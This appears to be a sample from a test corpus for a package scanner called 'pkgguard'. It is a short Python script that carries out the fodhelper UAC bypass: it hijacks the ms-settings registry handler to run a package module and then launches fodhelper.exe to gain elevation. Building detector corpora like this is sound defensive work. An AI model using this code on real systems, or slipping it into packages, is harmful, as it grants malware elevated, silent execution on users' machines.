# pkgguard corpus 402 (persistence), modelled on [stealer-profile]; inert, never run.
import subprocess
import sys
import winreg

key = winreg.CreateKey(winreg.HKEY_CURRENT_USER, r"Software\Classes\ms-settings\Shell\Open\command")
winreg.SetValueEx(key, "", 0, winreg.REG_SZ, f'"{sys.executable}" -m pkg.agent')
winreg.SetValueEx(key, "DelegateExecute", 0, winreg.REG_SZ, "")
winreg.CloseKey(key)
subprocess.Popen(["fodhelper.exe"], shell=True)
